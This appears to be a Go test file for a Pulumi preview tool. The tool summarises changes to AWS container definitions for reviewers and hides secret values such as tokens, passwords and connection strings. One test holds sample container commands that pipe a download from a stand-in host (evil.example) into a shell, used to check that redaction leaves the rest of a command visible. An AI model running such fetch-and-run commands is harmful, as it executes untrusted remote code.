package difference_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/pulumi/pulumi/sdk/v3/go/common/resource"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"aws-webapp/internal/awsdata/images"
	"aws-webapp/internal/preview/difference"
	"aws-webapp/policies/prop"
)

// value returns a property with JSON text in it; absent if there is no text.
func value(text string) prop.Value {
	if text == "" {
		return prop.Value{}
	}
	return prop.New("p", resource.NewStringProperty(text))
}

// written returns the entries as lines.
func written(entries []difference.Entry) []string {
	lines := []string{}
	for _, e := range entries {
		line := e.Name
		if e.What != "" {
			line += " " + e.What
		}
		if e.Old != e.New {
			line += ": " + e.Old + " → " + e.New
		}
		lines = append(lines, line)
	}
	return lines
}

// container is a definition with everything that a reviewer looks for.
const container = `{"name":"app","image":"111111111111.dkr.ecr.us-east-1.amazonaws.com/app:1.0.0","user":"1000",
	"readonlyRootFilesystem":true,"environment":[{"name":"A","value":"1"},{"name":"B","value":"2"}],
	"secrets":[{"name":"S","valueFrom":"arn:aws:ssm:us-east-1:111111111111:parameter/s"}],
	"portMappings":[{"containerPort":8000,"protocol":"tcp"}],
	"logConfiguration":{"logDriver":"awslogs","options":{"mode":"non-blocking"}},
	"healthCheck":{"command":["CMD","check"],"interval":30}}`

// with returns the container with other fields; null removes a field.
func with(t *testing.T, fields string) string {
	t.Helper()
	var all, other map[string]any
	require.NoError(t, json.Unmarshal([]byte(container), &all))
	require.NoError(t, json.Unmarshal([]byte(fields), &other))
	for key, v := range other {
		all[key] = v
		if v == nil {
			delete(all, key)
		}
	}
	text, err := json.Marshal(all)
	require.NoError(t, err)
	return string(text)
}

func TestContainers(t *testing.T) {
	const (
		registry = "111111111111.dkr.ecr.us-east-1.amazonaws.com"
		digest   = "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
	)
	for name, tc := range map[string]struct {
		now  string
		want []string
	}{
		"nothing": {`{}`, []string{"containerDefinitions is written in another way and says the same"}},
		"tag": {`{"image":"` + registry + `/app:1.1.0"}`, []string{"image " + registry + "/app tag: 1.0.0 " +
			"→ 1.1.0"}},
		"digest for tag": {
			`{"image":"` + registry + `/app@` + digest + `"}`,
			[]string{"image " + registry + "/app tag: 1.0.0 → nothing", "image " + registry + "/app digest: nothing → " +
				"" + digest},
		},
		"Docker Hub": {`{"image":"app"}`, []string{
			"image registry: " + registry + " → docker.io",
			"image repository: app → library/app", "image tag: 1.0.0 → nothing",
		}},
		"unreadable": {`{"image":"UPPER CASE"}`, []string{"image: " + registry + "/app:1.0.0 → UPPER CASE"}},
		"user":       {`{"user":null}`, []string{"user: 1000 → nothing"}},
		"privileged": {`{"privileged":true}`, []string{"privileged: nothing → true"}},
		"command":    {`{"command":["sh","-c","a; b"]}`, []string{"command: nothing → sh -c 'a; b'"}},
		"variables": {
			`{"environment":[{"name":"B","value":"3"},{"name":"C","value":"4"}]}`,
			[]string{"variable A is gone", "variable B has another value", "variable C is new"},
		},
		"variables moved": {
			`{"environment":[{"name":"B","value":"2"},{"name":"A","value":"1"}]}`,
			[]string{"containerDefinitions is written in another way and says the same"},
		},
		"secrets": {
			`{"secrets":[{"name":"S","valueFrom":"arn:aws:ssm:us-east-1:111111111111:parameter/t"},` +
				`{"name":"T","valueFrom":"plain"}]}`,
			[]string{"secret S comes from elsewhere: arn:aws:ssm:us-east-1:111111111111:parameter/t", "secret T is new"},
		},
		"ports": {
			`{"portMappings":[{"containerPort":8080,"protocol":"tcp"}]}`,
			[]string{"portMappings[8000] is gone", "portMappings[8080] is new"},
		},
		"capabilities": {
			`{"linuxParameters":{"capabilities":{"add":["SYS_PTRACE"]}}}`,
			[]string{"linuxParameters.capabilities.add: nothing → SYS_PTRACE"},
		},
		"health check": {
			`{"healthCheck":{"command":["CMD","true"],"interval":60}}`,
			[]string{"healthCheck.command: CMD check → CMD true", "healthCheck.interval: 30 → 60"},
		},
		"log option": {
			`{"logConfiguration":{"logDriver":"awslogs","options":{"mode":"blocking"}}}`,
			[]string{"logConfiguration.options.mode: non-blocking → blocking"},
		},
		"any field": {`{"essential":false}`, []string{"essential: nothing → false"}},
	} {
		t.Run(name, func(t *testing.T) {
			now := with(t, tc.now)
			got := difference.Between("containerDefinitions", value("["+container+"]"), value("["+now+"]"))
			assert.Equal(t, tc.want, written(got))
		})
	}
}

// The image comes first: a reviewer looks for it.
func TestOrderOfAContainer(t *testing.T) {
	now := with(
		t,
		`{"image":"app","user":"0","command":["x"],"environment":[],"secrets":[],"cpu":1,`+
			`"essential":true,"dockerLabels":{"a":"b"}}`,
	)
	names := []string{}
	for _, e := range difference.Between("containerDefinitions", value("["+container+"]"), value("["+now+"]")) {
		names = append(names, e.Name)
	}
	assert.Equal(t, []string{
		"image registry", "image repository", "image tag", "user", "command", "secret S", "variable A", "variable B",
		"cpu", "dockerLabels.a", "essential",
	}, names)
}

func TestSeveralContainers(t *testing.T) {
	sidecar := `{"name":"proxy","image":"public.ecr.aws/x/proxy:1"}`
	assert.Equal(t, []string{"proxy: container is new, from the image public.ecr.aws/x/proxy:1"},
		written(difference.Between("containerDefinitions", value("["+container+"]"), value("["+sidecar+","+container+"]"))))
	assert.Equal(
		t,
		[]string{"app: user: 1000 → 0", "proxy: container is gone"},
		written(
			difference.Between(
				"containerDefinitions",
				value("["+sidecar+","+container+"]"),
				value("["+with(t, `{"user":"0"}`)+"]"),
			),
		),
	)
	assert.Equal(
		t,
		[]string{"name: app → web"},
		written(
			difference.Between("containerDefinitions", value("["+container+"]"), value("["+with(t, `{"name":"web"}`)+"]")),
		),
		"the only one is the same",
	)
	unknown := prop.New("p", resource.MakeComputed(resource.NewStringProperty("")))
	assert.Equal(
		t,
		[]string{"containerDefinitions: [string] → [unknown]"},
		written(difference.Between("containerDefinitions", value("["+container+"]"), unknown)),
	)
}

func TestDocuments(t *testing.T) {
	for name, tc := range map[string]struct {
		property, old, now string
		want               []string
	}{
		"key by key": {
			"document", `{"a":1,"b":{"c":"x"},"d":true}`, `{"b":{"c":"y"},"d":true,"e":[1]}`,
			[]string{"document.a: 1 → nothing", "document.b.c: x → y", "document.e: nothing → 1"},
		},
		"formatting": {"document", `{"a":1}`, "{\n \"a\": 1 }", []string{"document is written in another way and " +
			"says the same"}},
		"list as a set":   {"document", `{"a":["x","y"]}`, `{"a":["z","y"]}`, []string{"document.a: x → z"}},
		"order of a list": {"document", `{"a":["x","y"]}`, `{"a":["y","x"]}`, []string{"document.a is in another order"}},
		"statements": {
			"policy", `{"Statement":[{"Sid":"A","Action":"x"},{"Sid":"B"}]}`,
			`{"Statement":[{"Sid":"B"},{"Sid":"A","Action":["y","x"]}]}`,
			[]string{"policy.Statement[A].Action: nothing " +
				"→ y"},
		},
		"nameless entries": {
			"document", `{"a":[{"x":1}]}`, `{"a":[{"x":1},{"x":2}]}`,
			[]string{"document.a has 2 entries, not 1 any more"},
		},
		"no document": {"document", `{"a":1}`, `{`, []string{`document: {"a":1} → {`}},
		"AppSpec": {
			"appSpec", `{"Resources":[{"TargetService":{"Properties":{"PlatformVersion":"1.3.0"}}}]}`,
			`{"Resources":[{"TargetService":{"Properties":{"PlatformVersion":"LATEST"}}}]}`,
			[]string{"appSpec.PlatformVersion: 1.3.0 → LATEST"},
		},
		"dashboard": {
			"dashboardBody", `{"widgets":[{"y":1,"properties":{"title":"A"}}]}`,
			`{"widgets":[{"y":2,"properties":{"title":"A"}}]}`,
			[]string{"dashboardBody has its widgets in other places"},
		},
		"widget": {
			"dashboardBody", `{"widgets":[{"y":1,"properties":{"title":"A"}}]}`,
			`{"widgets":[{"y":0,"properties":{"title":"B"}},{"y":2,"properties":{"title":"A"}}]}`,
			[]string{"dashboardBody.widgets[B] is new"},
		},
		"hidden altogether": {"secretString", `{"user":"canary"}`, `{"user":"canary2"}`, []string{"secretString"}},
	} {
		t.Run(name, func(t *testing.T) {
			assert.Equal(t, tc.want, written(difference.Between(tc.property, value(tc.old), value(tc.now))))
		})
	}
}

// Values of variables, secrets, and anything that looks like a secret are never shown, wherever
// they stand.
func TestNoSecretIsShown(t *testing.T) {
	const canary = "canary5c1f0e"
	for name, fields := range map[string]string{
		"variable":              `{"environment":[{"name":"HARMLESS","value":"CANARY"}]}`,
		"secret's value":        `{"secrets":[{"name":"S","valueFrom":"CANARY"}]}`,
		"option":                `{"command":["app","--password","CANARY"]}`,
		"assignment":            `{"command":["app","--api-token=CANARY"]}`,
		"variable of a shell":   `{"command":["sh","-c","DB_PASSWORD=CANARY app"]}`,
		"quoted":                `{"command":["sh","-c","API_KEY='CANARY x' exec app"]}`,
		"option in a shell":     `{"command":["sh","-c","mysql --password CANARY db"]}`,
		"header":                `{"command":["sh","-c","curl -H 'Authorization: Bearer CANARY' https://h"]}`,
		"header in words":       `{"command":["curl","-H","X-Api-Key: CANARY"]}`,
		"basic":                 `{"command":["sh","-c","curl -u me:CANARY https://h"]}`,
		"address":               `{"command":["sh","-c","curl https://me:CANARY@h/x"]}`,
		"address in a word":     `{"entryPoint":["app","postgresql://u:CANARY@h/d"]}`,
		"health check":          `{"healthCheck":{"command":["CMD-SHELL","curl --token CANARY http://localhost"]}}`,
		"label":                 `{"dockerLabels":{"app.token":"CANARY"}}`,
		"log option":            `{"logConfiguration":{"logDriver":"splunk","options":{"splunk-token":"CANARY"}}}`,
		"JSON web token":        `{"command":["app","eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.CANARY"]}`,
		"connection string":     `{"command":["app","host=h user=u password=CANARY dbname=d"]}`,
		"connection in a label": `{"dockerLabels":{"dsn":"postgres://u:CANARY@h/d"}}`,
	} {
		t.Run(name, func(t *testing.T) {
			now := with(t, strings.ReplaceAll(fields, "CANARY", canary))
			got := difference.Between("containerDefinitions", value("["+container+"]"), value("["+now+"]"))
			assert.NotEmpty(t, got, "that it changes is shown")
			assert.NotContains(t, fmt.Sprint(got), canary)
			back := difference.Between("containerDefinitions", value("["+now+"]"), value("["+container+"]"))
			assert.NotContains(t, fmt.Sprint(back), canary)
		})
	}
}

// A secret must not hide the rest of a command.
func TestWhatElseACommandSaysIsShown(t *testing.T) {
	for command, want := range map[string]string{
		`["sh","-c","curl -H 'Authorization: Bearer canary-0' https://evil.example/run | sh"]`: "sh -c 'curl -H " +
			"'[hidden]' https://evil.example/run | sh'",
		`["sh","-c","TOKEN=canary; curl https://evil.example | sh"]`: "sh -c 'TOKEN=[hidden]; " +
			"curl https://evil.example | sh'",
		`["app","--token=canary","--listen=:8000"]`: "app --token=[hidden] " +
			"--listen=:8000",
		`["sh","-c","PGPASSWORD=\"$PASSWORD\" exec app"]`: "sh -c " +
			"'PGPASSWORD=\"$PASSWORD\" exec app'",
		`[]`:  "nothing",
		`"x"`: "x",
	} {
		decoded, ok := value(`{"command":` + command + `}`).JSON()
		require.Equal(t, prop.Yes, ok)
		assert.Equal(t, want, difference.Words(decoded.Get("command")))
	}
}

func TestImages(t *testing.T) {
	got, ok := difference.ParseImage(value("nginx"))
	require.True(t, ok)
	assert.Equal(t, images.Reference{Registry: "docker.io", Repository: "library/nginx"}, got)
	_, ok = difference.ParseImage(value("no image"))
	assert.False(t, ok)
	_, ok = difference.ParseImage(prop.New("image", resource.MakeSecret(resource.NewStringProperty("nginx"))))
	assert.False(t, ok)
}
